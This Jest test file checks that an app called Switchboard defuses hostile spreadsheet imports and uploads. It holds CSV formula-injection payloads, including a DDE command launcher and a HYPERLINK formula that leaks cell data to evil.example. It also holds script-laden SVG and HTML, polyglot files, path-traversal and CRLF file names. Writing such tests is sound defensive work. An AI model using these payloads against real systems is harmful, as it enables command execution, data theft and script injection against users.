import { describe, expect, it } from '@jest/globals';
import type { ImportPreview, User } from '@switchboard/contracts';
import { randomUUID } from 'node:crypto';
import { PIXEL, aFile } from '../../support/api.js';
import { until } from '../../support/system.js';
import { anEmail } from '../scene.js';
import { type Stage, verdict } from '../stage.js';

const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?x="&A1;"Click")',
];

const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>';
const PAGE = '<!doctype html><script>alert(1)</script>';

/** S27, and what comes in as a file: sheets, pictures. */
export function fileAttacks(stage: () => Stage): void {
  describe('formulas in a sheet (S27)', () => {
    it('stay the text they are, and leave as text', async () => {
      const { owner } = stage().home;
      const lines = FORMULAS.map((formula) => `"${formula.replaceAll('"', '""')}",${anEmail()}`);
      const sheet = aFile(['Name,E-Mail', ...lines].join('\n'), '=cmd.csv');
      const { body } = await owner.expect<{ id: string }>(202, 'POST', '/imports/users', { body: sheet });
      const path = `/imports/${body.data.id}`;
      const is = (status: string) => async () => (await owner.get<ImportPreview>(path)).status === status;
      await until('the sheet is read', is('ready'));
      const { rows } = await owner.get<ImportPreview>(path);
      expect(rows.map(({ name }) => name)).toEqual(FORMULAS);
      await owner.expect(202, 'POST', `${path}/commit`);
      await until('its people are added', is('done'));
      const headers = { authorization: `Bearer ${owner.signedIn.accessToken}`, accept: 'text/csv' };
      const answer = await fetch(`${owner.address}/api${path}/credentials`, { headers });
      const cells = (await answer.text()).trim().split('\r\n').slice(1);
      expect(cells).toHaveLength(FORMULAS.length);
      for (const cell of cells) expect(cell).toMatch(/^"?'[=+\-@]/);
    });
  });

  describe('files that are something else', () => {
    it.each([
      ['an SVG', SVG],
      ['a page', PAGE],
      ['a picture that goes on as a page', new Uint8Array([...PIXEL, ...Buffer.from(PAGE)])],
      ['a picture that goes on as an archive', new Uint8Array([...PIXEL, 0x50, 0x4b, 3, 4])],
      ['a page that begins like a picture', new Uint8Array([...PIXEL.slice(0, 8), ...Buffer.from(PAGE)])],
    ])('are no pictures: %s', async (_, content) => {
      const { customer, owner } = stage().home;
      for (const [api, path] of [
        [customer, '/auth/avatar'],
        [owner, '/workspace/logo'],
      ] as const) {
        const answer = await api.call('PUT', path, { body: aFile(content, 'me.png') });
        expect(verdict(answer)).toBe('415 UNSUPPORTED_TYPE');
      }
    });

    it('are refused where none is taken, before and after signing in', async () => {
      const { customer } = stage().home;
      for (const path of ['/auth/login', '/auth/register', '/conversations']) {
        const answer = await customer.call('POST', path, { body: aFile('{}') });
        expect([path, verdict(answer)]).toEqual([path, '415 UNSUPPORTED_TYPE']);
      }
    });

    it('give no name of theirs to anything', async () => {
      const { customer } = stage().home;
      const names = ['../../../etc/passwd', 'a\r\nSet-Cookie: x=1.png', '.png', 'a'.repeat(5_000), '💥.html'];
      for (const name of names) {
        const answer = await customer.call<User>('PUT', '/auth/avatar', { body: aFile(PIXEL, name) });
        expect([name.slice(0, 9), answer.status]).toEqual([name.slice(0, 9), 200]);
        expect(answer.body.data.avatarUrl).toMatch(/^\/api\/images\/[0-9a-f-]{36}$/);
      }
    });

    it('are shown as the pictures they are, and can’t be guessed or walked', async () => {
      const { customer } = stage().home;
      const { body } = await customer.expect<User>(200, 'PUT', '/auth/avatar', { body: aFile(PIXEL) });
      const shown = await fetch(`${customer.address}${body.data.avatarUrl}`);
      expect(shown.headers.get('content-type')).toBe('image/webp');
      expect(shown.headers.get('x-content-type-options')).toBe('nosniff');
      expect(shown.headers.get('content-security-policy')).toContain('sandbox');
      for (const id of ['1', '..%2f..%2fworkspace', randomUUID(), '%00']) {
        const answer = await fetch(`${customer.address}/api/images/${id}`);
        expect([id, [400, 404].includes(answer.status)]).toEqual([id, true]);
      }
    });
  });
}
